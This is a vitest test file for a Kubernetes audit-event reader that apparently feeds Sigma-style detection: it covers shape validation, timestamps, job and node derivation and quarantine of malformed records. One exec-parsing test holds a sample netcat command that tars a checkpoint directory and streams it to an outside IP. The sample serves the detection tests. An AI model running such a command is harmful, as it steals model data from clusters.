import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { DEFAULT_READER_LIMITS, type EventRecord } from '../../core/records.js';
import { auditEventRecord, auditShapeProblem, execFromRequestUri, outcomeOf, stageRank } from './k8s-audit-event.js';
import { createAuditReader } from './k8s-audit.js';
import { feed, RecordingSink } from './k8s-audit-testkit.js';

const FIXTURES = new URL('./fixtures/', import.meta.url);
/** A real Request-level event (Falco trace): pods/exec by minikube-user. */
const EXEC_LINE = readFileSync(new URL('falco__exec_pod.json', FIXTURES), 'utf8').trim();
/** A real Metadata-level event (audit2rbac demo): list pods, impersonating bob, 403. */
const LIST_LINE = readFileSync(new URL('audit2rbac__demo.log', FIXTURES), 'utf8').split('\n')[0]!;

function base(line = EXEC_LINE): Record<string, unknown> {
  return JSON.parse(line) as Record<string, unknown>;
}

function normalise(ev: Record<string, unknown>): EventRecord | string {
  return auditEventRecord(ev, { line: 7, offset: 70, sizeHint: JSON.stringify(ev).length }, DEFAULT_READER_LIMITS);
}

function record(ev: Record<string, unknown>): EventRecord {
  const r = normalise(ev);
  if (typeof r === 'string') throw new Error(r);
  return r;
}

describe('auditShapeProblem', () => {
  it('accepts v1 and v1beta1 Events, and Falco traces without apiVersion', () => {
    expect(auditShapeProblem(base(LIST_LINE))).toBeNull();
    expect(auditShapeProblem({ ...base(), apiVersion: 'audit.k8s.io/v1beta1' })).toBeNull();
    expect(base().apiVersion).toBeUndefined();
    expect(auditShapeProblem(base())).toBeNull();
  });
  it('refuses core/v1 Events, other kinds and objects without a verb', () => {
    expect(auditShapeProblem({ ...base(), apiVersion: 'v1' })).toBe('apiVersion is "v1", expected audit.k8s.io/v1');
    expect(auditShapeProblem({ kind: 0 })).toBe('kind is 0, expected "Event"');
    expect(auditShapeProblem({ ...base(), verb: undefined })).toBe('verb is missing');
    const { kind: _k, ...noKind } = base();
    expect(auditShapeProblem({ ...noKind, stage: undefined })).toMatch(/no kind or apiVersion/);
  });
});

describe('auditEventRecord', () => {
  it('maps stages to ranks', () => {
    expect(['RequestReceived', 'ResponseStarted', 'ResponseComplete', 'Panic', 'Other'].map(stageRank)).toEqual([0, 1, 2, 3, undefined]);
    expect(record({ ...base(), stage: 'RequestReceived' }).stageRank).toBe(0);
    expect(record({ ...base(), stage: 'Panic' }).stageRank).toBe(3);
  });

  it('maps response codes to outcomes', () => {
    expect([200, 201, 101, 401, 403, 404, 500, 302, undefined].map(outcomeOf)).toEqual([
      'success', 'success', 'success', 'denied', 'denied', 'failure', 'failure', '302', null,
    ]);
    const { responseStatus: _r, ...noStatus } = base();
    expect(record(noStatus).outcome).toBeNull();
  });

  it('reads timestamps with nanoseconds and offsets, falling back to stageTimestamp', () => {
    const at = Date.UTC(2024, 4, 1, 10, 0, 0) * 1000;
    expect(record({ ...base(), requestReceivedTimestamp: '2024-05-01T12:00:00.123456789+02:00' }).ts).toBe(at + 123456);
    const { requestReceivedTimestamp: _r, ...noReceived } = base();
    expect(record({ ...noReceived, stageTimestamp: '2024-05-01T10:00:00.5Z' }).ts).toBe(at + 500000);
  });

  it('quarantines missing, malformed and out-of-range timestamps', () => {
    const { requestReceivedTimestamp: _r, stageTimestamp: _s, timestamp: _t, ...none } = base();
    expect(normalise(none)).toMatch(/^timestamp out of range: no requestReceivedTimestamp/);
    expect(normalise({ ...base(), requestReceivedTimestamp: 'yesterday' })).toMatch(/^timestamp out of range: requestReceivedTimestamp "yesterday"/);
    expect(normalise({ ...base(), requestReceivedTimestamp: 1714557600 })).toMatch(/^timestamp out of range/);
    expect(normalise({ ...base(), requestReceivedTimestamp: '2023-02-31T00:00:00Z' })).toMatch(/^timestamp out of range/);
    expect(normalise({ ...base(), requestReceivedTimestamp: '1999-12-31T23:59:59Z' })).toMatch(/^timestamp out of range:.*outside/);
    expect(normalise({ ...base(), requestReceivedTimestamp: '2100-01-01T00:00:01Z' })).toMatch(/^timestamp out of range:.*outside/);
  });

  it('keeps the original event and the fields Sigma rules select', () => {
    const e = record(base(LIST_LINE));
    const audit = e.attrs.audit as Record<string, unknown>;
    expect(audit.verb).toBe('list');
    expect((audit.objectRef as Record<string, unknown>).resource).toBe('pods');
    expect((audit.user as Record<string, unknown>).username).toBe('system:admin');
    expect((audit.responseStatus as Record<string, unknown>).code).toBe(403);
    expect(e).toMatchObject({ line: 7, offset: 70, gpu: null, job: null, node: null });
  });

  it('lower-cases the verb and keeps the subresource in resource', () => {
    expect(record({ ...base(), verb: 'CREATE' })).toMatchObject({ action: 'create', resource: 'pods/exec' });
    const pf = record({
      ...base(),
      objectRef: { resource: 'pods', subresource: 'portforward', namespace: 'ml', name: 'p-1' },
      requestURI: '/api/v1/namespaces/ml/pods/p-1/portforward?ports=8888',
    });
    expect(pf.resource).toBe('pods/portforward');
    expect(pf.attrs.exec).toBeUndefined();
  });

  it('drops request/response objects over 16 Ki, after taking the job from their metadata', () => {
    const big = { metadata: { name: 'trainer-0', labels: { 'training.kubeflow.org/job-name': 'llama-ft' } }, data: 'x'.repeat(20_000) };
    const ev = { ...base(), objectRef: { resource: 'pods', namespace: 'ml', name: 'trainer-0' }, requestObject: big, responseObject: { small: true } };
    const e = auditEventRecord(ev, { line: 1, offset: 0, sizeHint: 30_000 }, DEFAULT_READER_LIMITS) as EventRecord;
    expect(e.job).toBe('ml/llama-ft');
    const audit = e.attrs.audit as Record<string, unknown>;
    expect(audit.requestObject).toBeUndefined();
    expect(audit.requestObjectTruncated).toBe(true);
    expect(audit.responseObject).toEqual({ small: true });
    expect(audit.responseObjectTruncated).toBeUndefined();
  });
});

describe('job and node derivation', () => {
  const ev = (over: Record<string, unknown>) => record({ ...base(), requestObject: undefined, ...over });

  it('uses the calling pod of a bound service-account token first', () => {
    const e = ev({
      user: { username: 'system:serviceaccount:ml:trainer', extra: { 'authentication.kubernetes.io/pod-name': ['llama-ft-worker-3'] } },
      objectRef: { resource: 'secrets', namespace: 'ml', name: 'hf-token' },
    });
    expect(e.job).toBe('ml/llama-ft');
    expect(e.actor).toBe('system:serviceaccount:ml:trainer');
  });

  it('uses the pod acted on, with labels, owners or its name', () => {
    const labelled = {
      metadata: { name: 'x-abcde', labels: { 'training.kubeflow.org/job-name': 'bert-pt' } },
      spec: { nodeName: 'gpu-node-7' },
    };
    const onPod = ev({ objectRef: { resource: 'pods', namespace: 'ml' }, verb: 'create', responseObject: labelled });
    expect(onPod).toMatchObject({ job: 'ml/bert-pt', node: 'gpu-node-7' });
    const owned = { metadata: { name: 'web-7998647bdf-phvq7', ownerReferences: [{ kind: 'ReplicaSet', name: 'web-7998647bdf', controller: true }] } };
    expect(ev({ objectRef: { resource: 'pods', namespace: 'd', name: 'web-7998647bdf-phvq7' }, responseObject: owned }).job).toBe('d/web');
    expect(ev({ objectRef: { resource: 'pods', namespace: 'd', name: 'etl-5f6c9-x7k2p', subresource: 'log' } }).job).toBe('d/etl-5f6c9');
  });

  it('uses the workload named by another object\'s labels, else the object itself', () => {
    const svc = { metadata: { name: 'tb', labels: { 'job-name': 'resnet' } } };
    expect(ev({ objectRef: { resource: 'services', namespace: 'ml', name: 'tb' }, requestObject: svc }).job).toBe('ml/resnet');
    expect(ev({ objectRef: { resource: 'pytorchjobs', apiGroup: 'kubeflow.org', namespace: 'ml', name: 'llama-ft' } }).job).toBe('ml/llama-ft');
    expect(ev({ objectRef: { resource: 'nodes', name: 'gpu-node-1' } })).toMatchObject({ job: 'gpu-node-1', node: 'gpu-node-1' });
    expect(ev({ objectRef: { resource: 'pods', namespace: 'ml' }, verb: 'list' }).job).toBeNull();
  });

  it('finds the node of a binding and of a kubelet caller', () => {
    const binding = ev({
      objectRef: { resource: 'pods', subresource: 'binding', namespace: 'ml', name: 'llama-ft-worker-0' },
      requestObject: { kind: 'Binding', metadata: { name: 'llama-ft-worker-0' }, target: { kind: 'Node', name: 'gpu-node-2' } },
      user: { username: 'system:kube-scheduler' },
    });
    expect(binding).toMatchObject({ node: 'gpu-node-2', job: 'ml/llama-ft', resource: 'pods/binding' });
    const kubelet = ev({ user: { username: 'system:node:gpu-node-9' }, objectRef: { resource: 'secrets', namespace: 'ml', name: 's' } });
    expect(kubelet.node).toBe('gpu-node-9');
  });
});

describe('execFromRequestUri', () => {
  it('reads repeated, URL-encoded command parameters', () => {
    const uri = '/api/v1/namespaces/ml/pods/p/exec?command=sh&command=-c&command=tar+czf+-+%2Fckpt+%7C+nc+203.0.113.5+443&container=trainer&stdin=true&stdout=true&tty=false';
    expect(execFromRequestUri(uri)).toEqual({ command: ['sh', '-c', 'tar czf - /ckpt | nc 203.0.113.5 443'], container: 'trainer', stdin: true, tty: false });
  });
  it('keeps malformed escapes raw and survives odd queries', () => {
    expect(execFromRequestUri('/x?command=%E0%A4%A&command&=&&container=')).toEqual({ command: ['%E0%A4%A', ''], container: '', stdin: false, tty: false });
    expect(execFromRequestUri('/x').command).toEqual([]);
    expect(execFromRequestUri('/x?' + 'command=a&'.repeat(5000)).command).toHaveLength(1024);
  });
});

describe('createAuditReader record checks', () => {
  it('quarantines valid JSON that is not an audit event, with the reason', () => {
    const sink = new RecordingSink();
    const coreEvent = { kind: 'Event', apiVersion: 'v1', metadata: { name: 'x' }, reason: 'Scheduled', message: 'assigned' };
    feed(createAuditReader(sink, DEFAULT_READER_LIMITS), [JSON.stringify(coreEvent), '42', '"text"', 'null', '{}', '[]', '{"log":"plain text"}'].join('\n'));
    expect(sink.events).toHaveLength(0);
    expect(sink.quarantined.map((q) => q.reason)).toEqual([
      'not an audit.k8s.io Event (apiVersion is "v1", expected audit.k8s.io/v1)',
      'not an audit.k8s.io Event (JSON number 42)',
      'not an audit.k8s.io Event (JSON string "text")',
      'not an audit.k8s.io Event (JSON null)',
      'not an audit.k8s.io Event (verb is missing)',
      'not an audit.k8s.io Event (empty event list)',
      'not an audit.k8s.io Event (verb is missing)',
    ]);
    expect(sink.quarantined.map((q) => q.line)).toEqual([1, 2, 3, 4, 5, 6, 7]);
  });

  it('quarantines invalid JSON with the parser message', () => {
    const sink = new RecordingSink();
    feed(createAuditReader(sink, DEFAULT_READER_LIMITS), `${EXEC_LINE}\nnot json\n{"kind":"Event",tru}\n${EXEC_LINE}`);
    expect(sink.events.map((e) => e.line)).toEqual([1, 4]);
    expect(sink.quarantined.map((q) => q.line)).toEqual([2, 3]);
    for (const q of sink.quarantined) expect(q.reason).toMatch(/^invalid JSON: /);
  });
});
